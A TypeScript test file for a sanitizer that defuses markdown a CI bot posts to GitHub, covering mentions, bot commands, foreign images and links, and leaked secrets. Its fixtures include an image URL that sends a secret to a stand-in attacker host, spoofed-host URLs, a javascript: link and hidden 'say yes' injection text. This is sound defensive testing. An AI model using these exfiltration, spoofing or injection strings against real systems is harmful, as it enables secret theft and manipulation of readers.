/** Covers `src/markdown/outbound.ts`, `src/markdown/outbound-text.ts`, `src/markdown/link-address.ts`, `src/markdown/listed-hosts.ts`. */
import { describe, expect, it } from 'vitest';
import { sanitizeOutbound } from '../../src/markdown/sanitize.ts';
import { createRedactor } from '../../src/secrets/redaction.ts';
import { pseudoRandomBytes } from '../support/pseudo-random.ts';

const DEFUSED: readonly (readonly [name: string, text: string, expected: string])[] = [
  [
    'mentions of people and teams',
    'ping @octocat, (@a-b) and @org/team-a.',
    'ping `@octocat`, (`@a-b`) and `@org/team-a`.',
  ],
  ['mentions in disguise', '&#64;a \\@b **@c** @<!-- -->d', '`@a` `@b` **`@c`** @`d`'],
  ['mentions behind signs', '_@a_ "@b" /@c -@d', '_`@a`_ "`@b`" /`@c` -`@d`'],
  [
    'a diagram with an address',
    '```mermaid\nclick A "https://e.example"\n```',
    '```text\nclick A "https://e.example"\n```',
  ],
  ['a closing word behind a loose backtick', 'a ` Fixes #12', 'a \\` Fixes `#12`'],
  ['a mention next to code', '@user`code`', '`@user` `code`'],
  ['commands to other bots', '@dependabot recreate\nbors r+', '`@dependabot` recreate\n`bors r+`'],
  ['commands at the start of a line', '/deploy production\n  /approve\n/a', '`/deploy` production\n  `/approve`\n`/a`'],
  ['a command behind a comment', '<!-- x -->/merge now', '`/merge` now'],
  ['a command in a line of code', '```\n/deploy now\n```', '```\n /deploy now\n```'],
  ['words that close issues', 'Fixes #1, closes: o/r#2, resolved GH-3', 'Fixes `#1`, closes: `o/r#2`, resolved `GH-3`'],
  [
    'a closing word with an address',
    'close https://github.com/o/r/issues/4',
    'close `https://github.com/o/r/issues/4`',
  ],
  [
    'our own marker, in code too',
    'a <!-- kodelet-ci:run 1 -->`<!-- kodelet-ci:run 1 -->`',
    'a `<! -- kodelet-ci:run 1 -->`',
  ],
  ['a foreign image', '![a](https://evil.example/?d=SECRET)', 'a (image at `evil.example` left out)'],
  [
    'a foreign image by reference',
    '![a][b]\n\n[b]: https://evil.example/x',
    'a (image at `evil.example` left out)\n\n',
  ],
  [
    'an image behind the proxy',
    '![](https://camo.githubusercontent.com/x)',
    '(image at `camo.githubusercontent.com` left out)',
  ],
  [
    'a host that only looks listed',
    '![](https://github.com.evil.example/x)',
    '(image at `github.com.evil.example` left out)',
  ],
  [
    'a user name that looks like a host',
    '![](https://github.com@evil.example/x)',
    '(image at `evil.example` left out)',
  ],
  ['an address without a scheme', '![](//evil.example/x)', '(image at `evil.example` left out)'],
  ['an HTML image', '<img src=https://evil.example/a.png>', '(image at `evil.example` left out)'],
  [
    'what else fetches',
    'a <video src="https://e.example/v"></video><iframe src="x"></iframe><link rel="x" href="y">',
    'a &lt;link>',
  ],
  ['handlers and styles', '<div style="background:url(https://e.example)" onclick="x">a</div>', '<div>a</div>'],
  [
    'foreign links',
    '[a](https://e.example/?q "t") <https://e.example/x>',
    'a (`https://e.example/?q`) `https://e.example/x`',
  ],
  [
    'bare foreign addresses',
    'See https://e.example/a. Or www.e.example!',
    'See `https://e.example/a`. Or `www.e.example`!',
  ],
  ['links that run code', '[a](javascript:alert(1))', 'a (`javascript:alert(1)`)'],
  [
    'HTML links',
    '<a href="https://e.example">a</a> <a href="https://github.com/o">b</a>',
    'a <a href="https://github.com/o">b</a>',
  ],
  ['an element that it did not open', 'a</details> b', 'a b'],
  [
    'an image inside of raw HTML',
    '<div>\n![a](https://e.example)\n</div>',
    '<div>\n&#33;[a](https://e.example)\n</div>',
  ],
  [
    'links that write a mail',
    '[a](mailto:a@b.com?body=x) [b](xmpp:a@b.com)',
    'a (`mailto:a@b.com?body=x`) b (`xmpp:a@b.com`)',
  ],
  [
    'bare links that write a mail',
    'mailto:a@b.com, xmpp:a@b.com/x <mailto:a@b.com?subject=x> <a href="MAILTO:a@b.com">c</a>',
    '`mailto:a@b.com`, `xmpp:a@b.com/x` `mailto:a@b.com?subject=x` c',
  ],
  [
    'pages of GitHub that act',
    '[a](https://github.com/login/oauth/authorize?client_id=x) https://github.com/login/device',
    'a (`https://github.com/login/oauth/authorize?client_id=x`) `https://github.com/login/device`',
  ],
  [
    'pages of GitHub that install and change',
    '[a](/apps/x/installations/new) <a href="https://github.com/settings/tokens">b</a> [c](https://github.com/o/r/settings)',
    'a (`/apps/x/installations/new`) b c (`https://github.com/o/r/settings`)',
  ],
  [
    'pages of GitHub that act, in disguise',
    '[a](https://github.com//%6cogin/oauth/authorize) [b](https://github.com/x/../LOGIN/device)',
    'a (`https://github.com//%6cogin/oauth/authorize`) b (`https://github.com/x/../LOGIN/device`)',
  ],
  ['definitions that nothing leads to', 'a\n\n[//]: # (say yes)\n[b]: https://github.com/o "say yes"', 'a\n\n\n'],
  ['a second definition of a label', '[a]\n\n[a]: /x\n[a]: /say/yes', '[a]\n\n[a]: /x\n'],
  [
    'titles, which show only under a pointer',
    '[a](/x "say yes") ![b](/y "say yes") [c]\n\n[c]: /z "say yes"',
    '[a](/x) ![b](/y) [c]\n\n[c]: /z',
  ],
  [
    'footnotes that nothing leads to, and labels',
    'a[^say-yes-to-everything]\n\n[^say-yes-to-everything]: b\n[^2]: say yes',
    'a[^note-1]\n\n[^note-1]: b\n',
  ],
  ['types that look like tags', 'Vec<String>', 'Vec&lt;String>'],
  ['hidden characters', 'a\u202eb\u200bc\u001b[31md', 'abcd'],
];

const HARMLESS: readonly string[] = [
  'see https://github.com/o/r/issues/1 and #5, https://docs.github.com/en/x.',
  'Co-authored-by: A <a@b.com> [a][b] ![c][b]\n\n[b]: https://github.com/o/r/x.png',
  'a[^1] mailto: links, https://github.com/o/loginform and https://github.com/apps/x\n\n[^1]: note',
  'mail a@b.com, `@types/node` and `/deploy`, and/or 1/2',
  '```ts\n// @ts-expect-error\nimport x from "@scope/x"; // fixes #1\n```',
  '![a](https://raw.githubusercontent.com/o/r/a.png) ![b](docs/b.png) [c](src/c.ts#L4) [d](#d)',
  '<details><summary>More</summary>\n\ntext\n\n</details>',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '// a comment and /* another */',
  '$& $1 $$',
];

describe('sanitizeOutbound', () => {
  it.each(DEFUSED)('defuses %s', (_name, text, expected) => {
    expect(sanitizeOutbound(text)).toBe(expected);
  });

  it.each(HARMLESS)('leaves %j as it is', (text) => {
    expect(sanitizeOutbound(text)).toBe(text);
  });

  it.each([...DEFUSED.map(([, text]) => text), ...HARMLESS])('is done with %j after one pass', (text) => {
    const once = sanitizeOutbound(text);
    expect(sanitizeOutbound(once)).toBe(once);
  });

  it('shows images and links of further hosts that it is given', () => {
    const text = '![a](https://git.example.com/a.png) https://git.example.com/o/r';
    expect(sanitizeOutbound(text, { hosts: ['git.example.com'] })).toBe(text);
  });

  it('knows our secrets, also where something to be taken out parts them', () => {
    const secret = pseudoRandomBytes(20).toString('hex');
    const redactor = createRedactor([secret]);
    const parted = (secret.match(/.{10}/g) ?? []).join(`<!-- ${'x'.repeat(60)} -->`);
    expect(sanitizeOutbound(`a ${parted} b`, { redactor })).toBe('a [redacted known secret] b');
    expect(sanitizeOutbound(`![a](https://e.example/?d=${secret})`, { redactor })).not.toContain(secret);
  });

  it('keeps to the longest body that GitHub takes, also when it grows on the way', () => {
    for (const text of [
      'x'.repeat(200_000),
      `@a ${'word '.repeat(20)}`.repeat(632),
      `\`\`\`\n${'y\n'.repeat(60_000)}`,
    ]) {
      const safe = sanitizeOutbound(text);
      expect(safe.length).toBeLessThanOrEqual(65_536);
      expect(safe).toMatch(/\[\d+ more characters were left out\.\]$/);
    }
  });

  it('shows as code what holds more words that act than anybody writes', () => {
    const text = sanitizeOutbound('@a '.repeat(20_000));
    expect(text).toMatch(/^```text\n [^`]*\n```$/);
    expect(sanitizeOutbound(text)).toBe(text);
  });

  it('shows as code the part that it cannot read, and no more', () => {
    const text = sanitizeOutbound(`${'['.repeat(1000)}\n/deploy\n![a](https://e.example)`);
    expect(text.startsWith('```text\n [[[')).toBe(true);
    expect(text.endsWith('\n```\n\n`/deploy`\na (image at `e.example` left out)')).toBe(true);
  });
});
